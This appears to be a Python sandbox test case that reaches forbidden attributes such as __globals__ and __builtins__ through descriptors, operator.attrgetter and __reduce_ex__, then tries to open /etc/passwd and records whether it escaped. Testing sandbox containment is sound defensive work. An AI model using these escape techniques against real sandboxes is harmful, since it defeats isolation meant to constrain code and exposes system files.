"""Reaches attributes by descriptors, type slots and __reduce_ex__.

tries: read attributes whose names are forbidden
layers: landlock, namespaces
observed: stopped
source: asteval issue 86; RestrictedPython pull request 330 (operator.attrgetter)
"""

import operator


def function():
    pass


ways = [
    object.__getattribute__(function, "__globals__"),
    type(function).__dict__["__globals__"].__get__(function),
    operator.attrgetter("__globals__")(function),
    print.__reduce_ex__.__self__.__self__.__dict__,
]
names = ways[0]["__builtins__"]
open_ = ways[3]["open"] if "open" in ways[3] else names["open"]

try:
    with open_("/etc/passwd", "rb") as file:
        result = f"escaped: {len(file.read(16))} bytes of /etc/passwd"
except OSError as error:
    result = f"stopped: {type(error).__name__}"
